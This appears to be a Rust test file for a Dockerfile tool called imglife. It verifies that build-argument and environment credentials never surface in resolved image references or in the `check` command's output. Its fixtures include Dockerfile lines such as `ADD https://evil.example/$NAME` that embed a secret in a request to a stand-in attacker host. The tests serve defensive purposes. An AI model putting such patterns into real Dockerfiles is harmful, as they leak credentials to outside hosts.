//! Every credential in every place of a Dockerfile that imglife reads.

use std::collections::BTreeMap;

use imglife::dockerfile::{ArgumentValues, DockerfileBase, final_stage_base};

use super::{CREDENTIALS, JOB, SECRET, variables};
use crate::support::world::World;

/// Dockerfiles with a variable `NAME` in a reference.
const PLACES: [&str; 10] = [
    "ARG NAME\nFROM evil.example/x:$NAME",
    "ARG NAME\nFROM evil.example/${NAME}",
    "ARG NAME\nFROM $NAME",
    "ARG NAME\nFROM evil.example/x:${NAME:-latest}",
    "ARG NAME\nFROM evil.example/x:${NAME:+set}",
    "ARG NAME\nARG OTHER=$NAME\nFROM evil.example/x:$OTHER",
    "ARG NAME\nFROM --platform=$NAME evil.example/x:1",
    "ARG NAME\nFROM evil.example/x:$NAME AS first\nFROM first",
    "ARG NAME\nFROM evil.example/x:1\nARG NAME\nLABEL a=$NAME\nADD https://evil.example/$NAME /",
    "FROM evil.example/x:1\nENV A=$NAME\nCOPY --from=evil.example/$NAME /a /a",
];

#[test]
fn no_reference_of_a_dockerfile_contains_a_credential() {
    let variables = variables();
    for place in PLACES {
        for (name, value) in CREDENTIALS {
            let text = place.replace("NAME", name);
            let given = [(name.to_owned(), value.to_owned())].into();
            for given in [&BTreeMap::new(), &given] {
                // A build argument is given on the command line, so only secrets are refused.
                if !given.is_empty() && name == "PLAIN" {
                    continue;
                }
                let values = ArgumentValues {
                    given,
                    environment: &variables,
                };
                let shown = match final_stage_base(&text, values) {
                    Ok(found) => match found.base {
                        DockerfileBase::Scratch => String::new(),
                        DockerfileBase::Image(image) => image.to_string(),
                    },
                    Err(error) => format!("{error} {:?}", error.hint()),
                };
                assert!(!shown.contains(SECRET), "{text}: {shown}");
            }
        }
    }
}

#[test]
fn check_prints_no_credential_of_a_dockerfile() {
    for (name, _) in CREDENTIALS {
        let mut world = World::new().file(
            "Dockerfile",
            format!("ARG {name}\nFROM evil.example/x:${name}\n"),
        );
        for (name, value) in JOB.into_iter().chain(CREDENTIALS) {
            world = world.variable(name, value);
        }
        let outcome = world.imglife(["check"]);
        assert_ne!(outcome.code(), Some(0), "{outcome:?}");
        assert!(
            !outcome.stdout.contains(SECRET) && !outcome.stderr.contains(SECRET),
            "${name} is printed: {outcome:?}"
        );
    }
}
